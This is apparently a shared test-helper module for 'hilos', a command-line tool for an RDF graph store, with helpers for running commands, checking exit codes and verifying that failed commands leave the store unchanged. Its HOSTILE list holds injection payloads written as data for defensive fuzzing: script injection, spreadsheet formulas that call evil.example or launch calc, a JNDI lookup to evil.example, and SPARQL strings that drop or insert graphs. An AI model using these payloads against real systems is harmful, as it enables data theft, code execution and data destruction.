"""What the hardening tests share: running hilos, judging its answer, the state of a store, and
the hostile strings that data from leaks and scrapes may carry."""

from __future__ import annotations

import os
import shutil
import signal
import sys
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from types import FrameType

import pyoxigraph as ox
from click.testing import CliRunner, Result
from hypothesis import settings

from hilos.cli.app import cli
from hilos.store import Store

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    " JaVaScRiPt:alert(document.cookie)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1",
    "-1+2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "\u202eevil\u202c.exe",
    "\u2066isolate\u2069 \u200f",
    "</script><!--",
    "]]><x>",
    "line\u2028break\u2029para",
    "' } ; DROP GRAPH <urn:x> ; #",
    '"} INSERT DATA { <urn:a> <urn:b> <urn:c> } #',
    '\\u0022 \\ "',
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %>",
    "| pipe | *star* _under_ [link](javascript:alert(1)) `tick`",
)
"""Strings that must stay inert wherever hilos shows or writes them."""

LONG = "x" * 5_000 + "<script>alert(5)</script>"
"""A very long string: also inert, and never a reason to fail."""

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What a spreadsheet reads as the start of a formula."""

_RUNNER = CliRunner()


def hilos(store: Path, *args: str, input: str | bytes | None = None) -> Result:
    """`hilos --store STORE ARGS…` run in this process, stdout and stderr kept apart."""
    return _RUNNER.invoke(cli, ["--store", str(store), *args], input=input)


def assert_clean(result: Result, codes: Sequence[int] = (0, 1, 2)) -> None:
    """The command ended as documented: an allowed exit code, no traceback, no error hilos did
    not foresee, and when it failed, one line on stderr saying why."""
    shown = f"exit {result.exit_code}\nstdout: {result.stdout[:2000]!r}\nstderr: {result.stderr!r}"
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        import traceback

        trace = "".join(traceback.format_exception(result.exception))
        raise AssertionError(f"an exception escaped hilos:\n{trace}\n{shown}")
    assert result.exit_code in codes, shown
    assert "Traceback" not in result.stdout + result.stderr, shown
    assert "Error: unexpected" not in result.stderr, shown
    if result.exit_code != 0:
        lines = [line for line in result.stderr.splitlines() if line.strip()]
        assert len(lines) == 1, shown


@dataclass(frozen=True)
class StoreState:
    """What a failed command must leave as it was: the registry and every quad in the
    database (half-written graphs included)."""

    graphs: tuple[tuple[str, str, int, int, str, str], ...]
    quads: int


def store_state(path: Path) -> StoreState:
    """The state of the store at `path`, read without taking its lock."""
    database = ox.Store.read_only(str(path))
    try:
        infos = Store(database, path).graphs()
        return StoreState(
            graphs=tuple(
                (g.name, g.iri, g.triples, g.inferred_triples, g.sha256, g.loaded_at) for g in infos
            ),
            quads=len(database),
        )
    finally:
        del database


def held(database: ox.Store, graph: str) -> int:
    """How many statements the graph `graph` of `database` holds."""
    answer = database.query(f"SELECT (COUNT(*) AS ?n) WHERE {{ GRAPH <{graph}> {{ ?s ?p ?o }} }}")
    assert isinstance(answer, ox.QuerySolutions)
    return int(next(iter(answer))["n"].value)


def graph_counts(path: Path) -> dict[str, tuple[int, int, int, int]]:
    """Each registered graph: (registered, held) statements, then (registered, held) derived."""
    database = ox.Store.read_only(str(path))
    try:
        return {
            g.name: (
                g.triples,
                held(database, g.iri),
                g.inferred_triples,
                held(database, g.inferred_iri),
            )
            for g in Store(database, path).graphs()
        }
    finally:
        del database


class FuzzStore:
    """An on-disk store that fuzz cases share: a failed command must leave it as it was; after a
    command that changed it, `reset` puts the template back."""

    def __init__(self, template: Path, path: Path) -> None:
        self.template = template
        self.path = path
        self.reset()
        self.initial = store_state(path)

    def reset(self) -> None:
        shutil.rmtree(self.path, ignore_errors=True)
        shutil.copytree(self.template, self.path)

    def state(self) -> StoreState:
        return store_state(self.path)

    def __call__(self, *args: str, input: str | bytes | None = None) -> Result:
        return hilos(self.path, *args, input=input)

    def judge(
        self, *args: str, codes: Sequence[int] = (0, 2), writes: bool = True, seconds: float = 60
    ) -> Result:
        """Run a command that may write, and check it kept the promise: a clean answer; on
        failure (or when it does not write) the store exactly as before; on success every
        registered graph whole (its registered counts are what it holds), then a reset."""
        before = self.state()
        with bounded(seconds):
            result = self(*args)
        assert_clean(result, codes)
        if result.exit_code == 0 and writes:
            for name, (registered, held, derived_registered, derived) in graph_counts(
                self.path
            ).items():
                assert (registered, derived_registered) == (held, derived), name
            if self.state() != before:
                self.reset()
        else:
            assert self.state() == before, result.stderr
        return result


class Hang(BaseException):
    """A command ran past its time limit (a BaseException, so no `except Exception` hides it)."""


@contextmanager
def bounded(seconds: float) -> Iterator[None]:
    """Fail, rather than hang, if the block runs longer than `seconds`."""

    def expire(signum: int, frame: FrameType | None) -> None:
        raise Hang(f"still running after {seconds} s")

    previous = signal.signal(signal.SIGALRM, expire)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


DEEP = os.environ.get("HILOS_FUZZ") == "deep"


def budget(examples: int) -> settings:
    """`examples` cases in `make test`; many more with HILOS_FUZZ=deep."""
    return settings(max_examples=examples * 80 if DEEP else examples)


def hilos_command() -> list[str]:
    """The command line that runs this checkout's hilos in a new process."""
    return [sys.executable, "-c", "from hilos.cli import main; main()"]
